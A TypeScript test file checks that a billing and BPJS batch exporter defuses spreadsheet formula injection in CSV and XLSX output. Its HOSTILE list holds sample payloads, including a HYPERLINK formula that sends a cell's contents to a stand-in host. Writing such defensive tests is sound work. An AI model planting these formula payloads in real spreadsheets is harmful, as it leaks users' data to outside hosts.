import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { TEMPLATE_FIELDS, type TemplateColumn } from '../../../lib/contracts/exchange.ts';
import { writeBatchCsv, writeBatchXlsx, type BatchLine } from '../../modules/exchange/exchange.files.ts';
import { lapseWorkbook, billsWorkbook } from '../../modules/billing/billing.export.ts';
import { csvText, neutralise } from './writer.ts';

const HOSTILE = ['=HYPERLINK("http://x.test/?"&A1,"klik")', '+62-1', '-2+3', '@SUM(A1)', '\tTab', '\rCR'];

describe('neutralise', () => {
  it('prefixes an apostrophe to every text a spreadsheet would evaluate, and leaves other texts alone', () => {
    for (const text of HOSTILE) expect(neutralise(text)).toBe(`'${text}`);
    for (const text of ['Siti Aminah', '3402081508850001', "O'Neil", '', ' =1']) expect(neutralise(text)).toBe(text);
  });
});

const columns: TemplateColumn[] = [
  { header: 'NIK', field: 'nik' },
  { header: 'NAMA', field: 'full_name' },
  { header: '=JUDUL', field: 'phone' },
];
const line = (nik: string, name: string, phone: string): BatchLine =>
  ({ ...Object.fromEntries(TEMPLATE_FIELDS.map((f) => [f, ''])), nik, full_name: name, phone }) as BatchLine;
const lines = [line('3402081508850001', '=1+2', '+6281234567890'), line('0302081508850002', '@cmd', '081234')];

describe('the BPJS batch file', () => {
  it('XLSX: names starting with = or @ are strings beginning with an apostrophe, never formulas; the NIK is text', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await writeBatchXlsx(columns, lines)) as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0]!;
    expect(sheet.getCell('C1').value).toBe("'=JUDUL");
    const name = sheet.getCell('B2');
    expect(name.type).toBe(ExcelJS.ValueType.String);
    expect(name.formula).toBeUndefined();
    expect(name.value).toBe("'=1+2");
    expect(sheet.getCell('B3').value).toBe("'@cmd");
    expect(sheet.getCell('A3').value).toBe('0302081508850002');
    expect(sheet.getCell('A3').numFmt).toBe('@');
    expect(sheet.getCell('C2').value).toBe("'+6281234567890");
  });

  it('CSV (read back with papaparse): the name is the text "\'=1+2", the NIK keeps its 16 digits', () => {
    const text = writeBatchCsv(columns, lines)
      .toString('utf8')
      .replace(/^\uFEFF/, '');
    const parsed = Papa.parse<string[]>(text, { delimiter: ';', skipEmptyLines: true });
    expect(parsed.data).toEqual([
      ['NIK', 'NAMA', "'=JUDUL"],
      ['3402081508850001', "'=1+2", "'+6281234567890"],
      ['0302081508850002', "'@cmd", '081234'],
    ]);
  });

  it('CSV: numbers stay numbers, texts with the separator or quotes are quoted', () => {
    const parsed = Papa.parse<string[]>(csvText([['a;b', 'say "hi"', -1500, null]], { bom: false }), {
      delimiter: ';',
      skipEmptyLines: true,
    });
    expect(parsed.data).toEqual([['a;b', 'say "hi"', '-1500', '']]);
  });
});

describe('the billing exports', () => {
  it('lapse warnings: a name starting with - is a string; amounts in the bills stay numbers', async () => {
    const lapse = await lapseWorkbook(
      [
        {
          nikMasked: '3402********0001',
          fullName: '-Budi',
          workerId: '1',
          phone: '+6281234567890',
          whatsapp: 'https://wa.me/6281234567890',
          source: 'program',
          programId: '1',
          programName: '=Program',
          kpjNumber: '12345678901',
          coverageStart: '2026-01-01',
          paidThrough: '2026-03',
          lapseDate: '2026-05-16',
          kind: 'lapsed',
          daysLeft: -3,
          village: null,
          villageLabel: null,
        },
      ],
      'id',
      '2026-05-19',
    );
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(lapse as unknown as ArrayBuffer);
    const row = wb.worksheets[0]!.getRow(4);
    expect(row.getCell(2).value).toBe("'-Budi");
    expect(row.getCell(3).value).toBe("'+6281234567890");
    expect(row.getCell(4).value).toBe("'=Program");
    expect(row.getCell(5).value).toBe('12345678901');

    const bills = await billsWorkbook(
      [
        {
          id: '1',
          programId: '1',
          programName: '@Program',
          region: '34.02',
          regionLabel: 'Kab. Bantul',
          month: '2026-03',
          persons: 3,
          pricePerPerson: 16800,
          amount: 50400,
          paid: 0,
          outstanding: 50400,
          dueDate: '2026-03-15',
          status: 'unpaid',
          overdue: true,
        } as Parameters<typeof billsWorkbook>[0][number],
      ],
      'id',
      '2026-05-19',
    );
    const wb2 = new ExcelJS.Workbook();
    await wb2.xlsx.load(bills as unknown as ArrayBuffer);
    const billRow = wb2.worksheets[0]!.getRow(4);
    expect(billRow.getCell(1).value).toBe("'@Program");
    expect(billRow.getCell(6).value).toBe(50400);
    expect(billRow.getCell(6).type).toBe(ExcelJS.ValueType.Number);
  });
});
